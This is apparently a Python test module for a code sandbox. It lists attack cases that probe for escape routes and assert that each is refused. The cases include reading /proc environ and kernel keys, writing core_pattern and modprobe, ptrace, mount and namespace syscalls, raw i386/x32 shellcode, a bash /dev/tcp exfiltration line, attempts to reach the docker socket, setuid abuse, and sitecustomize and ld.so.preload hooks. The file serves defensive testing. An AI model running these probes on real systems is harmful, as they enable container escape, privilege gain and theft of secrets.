"""Attacks that reach for the host: /proc, /sys, descriptors, the network, the kernel (36 to 55, 64)."""

from __future__ import annotations

from tests.sandbox.attacks.model import Attack, Outcome

#: Planted in the environment of the host program for the time of the tests.
SECRET_NAME = "DEEPRESEARCH_ATTACK_SECRET"


def _host_unchanged(outcome: Outcome) -> None:
    assert outcome.host_after == outcome.host_before


def _knows_nothing(outcome: Outcome) -> None:
    assert SECRET_NAME not in outcome.result.stdout
    assert not outcome.shows(outcome.canary)


ATTACKS = [
    Attack(
        "proc", (36,), "/proc shows no environment, path or secret of the host",
        r"""
import glob
for name in [*glob.glob("/proc/[0-9]*/environ"), *glob.glob("/proc/[0-9]*/cmdline"), "/proc/self/mountinfo",
             "/proc/keys", "/proc/key-users", "/proc/kcore", "/proc/kallsyms", "/proc/cmdline"]:
    try:
        with open(name, "rb") as file: data = file.read(100_000)
    except OSError: continue
    if name in ("/proc/kcore", "/proc/keys", "/proc/key-users") and data: breach(name)
    print(name, data)
for name in ("/proc/sysrq-trigger", "/proc/1/mem"):
    refused(name, open, name, "wb")
if os.path.exists(CANARY): breach("the canary is visible")
""",
        judge=_knows_nothing,
    ),
    Attack(
        "kernel-settings", (37,), "No setting of the kernel and no control group can be written",
        """
import glob
names = ["/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sys/kernel/hostname",
         "/proc/sys/vm/overcommit_memory", "/proc/sys/net/ipv4/ip_forward", "/sys/kernel/uevent_helper",
         "/proc/sys/fs/binfmt_misc/register", "/proc/irq/0/smp_affinity", "/proc/self/loginuid", "/proc/1/oom_score_adj"]
for pattern in ("/sys/fs/cgroup/*", "/sys/fs/cgroup/*/*", "/sys/kernel/**", "/sys/power/*", "/sys/module/*/parameters/*"):
    names += glob.glob(pattern)[:300]
for name in names:
    if os.path.isdir(name):
        refused(f"folder in {name}", os.mkdir, f"{name}/x")
        continue
    try: descriptor = os.open(name, os.O_WRONLY)
    except OSError: continue
    try:
        os.write(descriptor, b"|/tmp/x")
        breach(name)
    except OSError: pass
""",
        judge=_host_unchanged,
    ),
    Attack(
        "magic-links", (38,), "The links below /proc lead nowhere outside",
        """
import glob
for start in [*glob.glob("/proc/[0-9]*/root"), *glob.glob("/proc/[0-9]*/cwd"), *glob.glob("/proc/[0-9]*/fd/*"),
              "/proc/self/cwd/../../../../..", "/dev/fd", "."]:
    for name in (start + CANARY, start + "/../../../../.." + CANARY):
        refused(name, open, name)
refused("own program", open, "/proc/self/exe", "r+b")
refused("interpreter", open, os.path.realpath(sys.executable), "r+b")
""",
        judge=_knows_nothing,
    ),
    Attack(
        "descriptors-inherited", (39,), "Only the three standard descriptors are there",
        """
found = sorted(int(name) for name in os.listdir("/proc/self/fd"))
own = [number for number in found if number > 2]
for number in own[:-1]: breach("descriptor", number, os.readlink(f"/proc/self/fd/{number}"))
for number in range(3, 300):
    try: os.fchdir(number)
    except OSError: continue
    breach("folder", number, os.getcwd())
""",
    ),
    Attack(
        "other-processes", (40,), "No other process can be traced, read, written or robbed",
        """
me, parent = os.getpid(), os.getppid()
for pid in (parent, 1):
    refused_calls({f"attach {pid}": (101, 16, pid, 0, 0), f"seize {pid}": (101, 0x4206, pid, 0, 0),
                   f"vm_readv {pid}": (310, pid, ctypes.byref((ctypes.c_ulong * 2)()), 1, ctypes.byref((ctypes.c_ulong * 2)()), 1, 0),
                   f"kcmp {pid}": (312, me, pid, 0, 0, 0)})
    handle = call(434, pid, 0)
    if handle >= 0: refused_calls({f"pidfd_getfd {pid} {n}": (438, handle, n, 0) for n in range(8)})
    for name in ("root", "cwd", "exe", *(f"fd/{number}" for number in range(12))):
        refused(name, os.readlink, f"/proc/{pid}/{name}"); refused(name, os.open, f"/proc/{pid}/{name}", os.O_RDONLY)
    for name in ("mem", "environ", "syscall", "stack", "auxv", "maps"):
        refused(name, lambda path: open(path, "rb").read(9), f"/proc/{pid}/{name}")
""",
        x86_64_only=True,
    ),
    Attack(
        "keyrings", (41,), "Kernel keyrings, which outlive a run, are out of reach",
        """
key = (ctypes.c_char_p(b"user"), ctypes.c_char_p(b"left"), ctypes.c_char_p(b"secret"), 6)
refused_calls({f"add_key {ring}": (248, *key, ring) for ring in (-1, -2, -3, -4, -5)})
refused_calls({"request_key": (249, key[0], key[1], None, 0), "keyctl": (250, 0, -4, 1)})
""",
        x86_64_only=True,
    ),
    Attack(
        "namespaces", (42,), "No new namespace can be made or entered",
        """
refused_calls({f"unshare {bit:#x}": (272, bit) for bit in (0x10000000, 0x20000, 0x40000000, 0x20000000, 0x8000000, 0x80)})
for bit in (0x10000000, 0x20000, 0x40000000, 0x20000000):
    child = call(56, bit | 17, 0, 0, 0, 0)
    if child == 0: os._exit(0)
    if child > 0: breach(f"clone {bit:#x}")
if call(435, ctypes.byref((ctypes.c_ulong * 11)(0x10000000)), 88) != -1 or ctypes.get_errno() != errno.ENOSYS:
    breach("clone3", ctypes.get_errno())
import glob
for name in glob.glob("/proc/1/ns/*") + glob.glob("/proc/self/ns/*"):
    try: refused_calls({f"setns {name}": (308, os.open(name, os.O_RDONLY), 0)})
    except OSError: pass
""",
        x86_64_only=True,
    ),
    Attack(
        "mounts", (43, 44), "Nothing can be mounted, unmounted, remounted or made the root",
        """
text = ctypes.c_char_p
calls = {f"mount {kind}": (165, text(b"x"), text(b"/tmp"), text(kind), 0, text(b"")) for kind in (b"tmpfs", b"proc", b"overlay")}
calls |= {"bind": (165, text(b"/"), text(b"/tmp"), None, 4096, None),
          "remount": (165, None, text(b"/"), None, 32, None), "umount": (166, text(b"/proc/kcore"), 2),
          "umount /proc": (166, text(b"/proc"), 2), "pivot_root": (155, text(b"/tmp"), text(b"/tmp")),
          "chroot": (161, text(b"/tmp")), "fsopen": (430, text(b"tmpfs"), 0), "open_tree": (428, -100, text(b"/"), 1),
          "move_mount": (429, -100, text(b"/tmp"), -100, text(b"/workspace"), 0), "fsmount": (432, 0, 0, 0),
          "fspick": (433, -100, text(b"/"), 0),
          "mount_setattr": (442, -100, text(b"/"), 0, ctypes.byref((ctypes.c_ulong * 4)(0, 1, 0, 0)), 32)}
refused_calls(calls)
""",
        x86_64_only=True,
    ),
    Attack(
        "dangerous-calls", (45, 46), "io_uring, bpf, perf, userfaultfd, modules, clocks, reboot and their like are refused",
        """
room = ctypes.byref((ctypes.c_char * 256)())
text = ctypes.c_char_p
refused_calls({"io_uring_setup": (425, 8, room), "io_uring_enter": (426, 0, 0, 0, 0, None), "bpf": (321, 0, room, 128),
               "io_uring_register": (427, 0, 0, None, 0), "perf_event_open": (298, room, 0, -1, -1, 0),
               "userfaultfd": (323, 0), "userfaultfd user": (323, 1), "kexec_load": (246, 0, 0, None, 0),
               "init_module": (175, room, 10, text(b"")), "finit_module": (313, 0, text(b""), 0),
               "delete_module": (176, text(b"x"), 0), "swapon": (167, text(b"/tmp/x"), 0), "swapoff": (168, text(b"/x")),
               "reboot": (169, 0xFEE1DEAD, 672274793, 0x89ABCDEF, None), "settimeofday": (164, room, None),
               "clock_settime": (227, 0, room), "clock_adjtime": (305, 0, room), "acct": (163, text(b"/tmp/acct")),
               "quotactl": (179, 0, None, 0, None), "open_by_handle_at": (304, -100, room, 0),
               "name_to_handle_at": (303, -100, text(b"/"), room, room, 0), "syslog": (103, 3, room, 256),
               "sethostname": (170, text(b"x"), 1), "setdomainname": (171, text(b"x"), 1), "iopl": (172, 3),
               "ioperm": (173, 0, 8, 1), "modify_ldt": (154, 0, room, 16), "vmsplice": (278, 1, room, 0, 0),
               "lookup_dcookie": (212, 0, room, 10), "memfd_secret": (447, 0), "fanotify_init": (300, 0, 0),
               "vhangup": (153,), "nfsservctl": (180,), "process_madvise": (440, -1, None, 0, 0, 0)})
""",
        judge=_host_unchanged, x86_64_only=True,
    ),
    Attack(
        "kernel-sockets", (47, 48), "No crypto, virtual machine, packet, netlink, Bluetooth or raw socket can be made",
        """
for family in [*range(2, 60)]:
    for kind in (1, 2, 3, 5):
        if call(41, family, kind, 0) != -1: breach("socket", family, kind)
        if call(53, family, kind, 0, ctypes.byref((ctypes.c_int * 2)())) != -1: breach("pair", family, kind)
""",
        x86_64_only=True,
    ),
    Attack(
        "foreign-calls", (47, 49), "Calls by the conventions of i386 and x32 end the process that makes them",
        """
import mmap
def ends(name, code):
    child = os.fork()
    if child == 0:
        signal.signal(signal.SIGSYS, signal.SIG_IGN)
        page = mmap.mmap(-1, 4096, prot=7); page.write(bytes.fromhex(code))
        ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
        os._exit(0)
    status = os.waitpid(child, 0)[1]
    if not os.WIFSIGNALED(status): breach(name)
ends("i386 getpid", "b814000000cd80c3")
ends("i386 socketcall AF_ALG", "53b866000000bb0100000031c9cd805bc3")
ends("i386 socket", "53b867010000bb26000000b90500000031d2cd805bc3")
ends("x32 getpid", "b8270000400f05c3")
ends("x32 ptrace", "b809020040bf0000000031f60f05c3")
""",
        x86_64_only=True,
    ),
    Attack(
        "network", (50, 51, 52), "Nothing reaches the host, its bridge, the metadata address or a name server",
        """
hosts = ["127.0.0.1", "0.0.0.0", "localhost", "169.254.169.254", "172.17.0.1", "host.docker.internal", "10.0.0.1",
         "::1", "::ffff:127.0.0.1", "fe80::1", "8.8.8.8", "127.0.0.53"]
for host in hosts:
    for port in (PORT, 53, 80):
        refused(f"tcp {host} {port}", socket.create_connection, (host, port), 0.5)
    for family in (socket.AF_INET, socket.AF_INET6):
        try:
            with socket.socket(family, socket.SOCK_DGRAM) as udp: udp.sendto(b"stolen", (host, PORT))
            breach("udp", host)
        except OSError: pass
refused("name", socket.getaddrinfo, "example.org", 80)
import subprocess
subprocess.run(["bash", "-c", f"echo stolen > /dev/tcp/127.0.0.1/{PORT}"], stderr=subprocess.DEVNULL)
""",
    ),
    Attack(
        "local-sockets", (53,), "No socket of the host can be reached, neither by path nor by abstract name",
        """
for name in (UNIX, "/var/run/docker.sock", "/run/docker.sock", "/run/dbus/system_bus_socket", "/run/systemd/private",
             "/run/containerd/containerd.sock", "\\0" + ABSTRACT, "\\0/tmp/dbus-x", "/run/user/0/bus"):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        with socket.socket(socket.AF_UNIX, kind) as tried: refused(name, tried.connect, name)
""",
    ),
    Attack(
        "privileges", (54,), "No program gives privileges: set-id bits and file capabilities have no effect",
        """
import glob, shutil, subprocess
if os.getuid() == 0: breach("root")
for folder in ("/bin", "/usr/bin", "/usr/sbin", "/usr/lib"):
    for base, _, names in os.walk(folder):
        for name in names:
            path = os.path.join(base, name)
            try:
                if os.lstat(path).st_mode & 0o6000 and os.access(path, os.X_OK):
                    print("set-id", path)
                    done = subprocess.run([path, "-c", "id"], capture_output=True, text=True, input="", timeout=5)
                    if "uid=0" in done.stdout: breach(path)
            except (OSError, subprocess.TimeoutExpired): pass
for path in ("su", "sudo", "newuidmap", "pkexec", "mount"):
    if shutil.which(path):
        done = subprocess.run([path, "-c", "id"] if path != "mount" else [path, "-t", "tmpfs", "x", "/tmp"],
                              capture_output=True, text=True, input="")
        if done.returncode == 0: breach(path, done.stdout)
for place in ("/tmp/mine", "/workspace/mine"):
    shutil.copy("/bin/sh", place)
    try: os.chmod(place, 0o6755)
    except OSError: pass
    refused(f"run {place} as another", lambda p: subprocess.run([p, "-p", "-c", "id -u | grep -qx 0"], check=True), place)
refused("setuid 0", os.setuid, 0); refused("setgid 0", os.setgid, 0); refused("setgroups", os.setgroups, [0])
status = dict(line.split(":\\t", 1) for line in open("/proc/self/status").read().splitlines() if ":\\t" in line)
for name in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"):
    if int(status[name], 16): breach(name, status[name])
if status["NoNewPrivs"].strip() != "1": breach("privileges can be gained")
os.remove("/workspace/mine")
""",
    ),
    Attack(
        "root-and-libraries", (55,), "The root, the libraries, their start-up hooks and the font cache cannot be changed",
        """
import site, sysconfig, matplotlib
places = ["/", "/usr", "/usr/bin", "/usr/local", "/etc", "/opt", "/opt/sandbox", "/var", "/root", "/home", "/dev", "/proc", "/sys",
          "/var/cache/fontconfig", sysconfig.get_paths()["purelib"], sysconfig.get_paths()["stdlib"],
          os.path.dirname(matplotlib.__file__), os.path.dirname(sys.executable), sys.prefix, os.path.dirname(os.path.realpath(sys.executable))]
for place in places:
    for name in ("sitecustomize.py", "owned.pth", "x"):
        refused(f"{place}/{name}", open, f"{place}/{name}", "w")
for path in (json.__file__, matplotlib.__file__, "/etc/passwd", "/etc/ld.so.preload", os.path.realpath("/bin/sh")):
    refused(path, open, path, "a"); refused(f"remove {path}", os.remove, path); refused(f"chmod {path}", os.chmod, path, 0o777)
""",
    ),
    Attack(
        "inspection", (64,), "What a checker of containers looks for is not there",
        """
status = dict(line.split(":\\t", 1) for line in open("/proc/self/status").read().splitlines() if ":\\t" in line)
if status["Seccomp"].strip() != "2": breach("no filter of system calls")
for name in ("/var/run/docker.sock", "/run/containerd", "/var/run/secrets", "/.dockersock", "/dev/mem", "/dev/kmsg",
             "/dev/sda", "/dev/vda", "/dev/kvm", "/dev/fuse", "/dev/net/tun", "/dev/loop-control"):
    if os.path.exists(name): breach(name)
writable = set()
for line in open("/proc/self/mountinfo"):
    before, after = line.split(" - ")
    point, options, kind = before.split()[4], before.split()[5].split(","), after.split()[0]
    if before.split()[3] in ("/null", "/zero", "/full", "/random", "/urandom", "/tty") or kind == "devpts": continue
    if "rw" in options and os.access(point, os.W_OK) and kind != "proc":
        writable.add(point)
        if "nosuid" not in options or "nodev" not in options: breach("mount", line.strip())
if not writable <= {"/tmp", "/workspace", "/dev/shm", "/dev/pts", "/dev/null", "/dev/zero", "/dev/full",
                    "/dev/random", "/dev/urandom", "/dev/tty"}: breach("writable", sorted(writable))
if len([name for name in os.listdir("/proc") if name.isdigit()]) > 6: breach("processes", os.listdir("/proc"))
if socket.gethostname() != "sandbox": breach("host name", socket.gethostname())
interfaces = [line.split(":")[0].strip() for line in open("/proc/net/dev").read().splitlines()[2:]]
for name in interfaces:
    if name != "lo" and not name.startswith(("tunl", "sit", "ip6tnl", "gre", "erspan", "ip_vti", "ip6_vti", "ip6gre", "gretap")):
        breach("interface", name)
for name in os.environ:
    if any(word in name.upper() for word in ("SECRET", "TOKEN", "KEY", "PASSWORD", "PROXY")): breach("variable", name)
""",
    ),
]  # fmt: skip
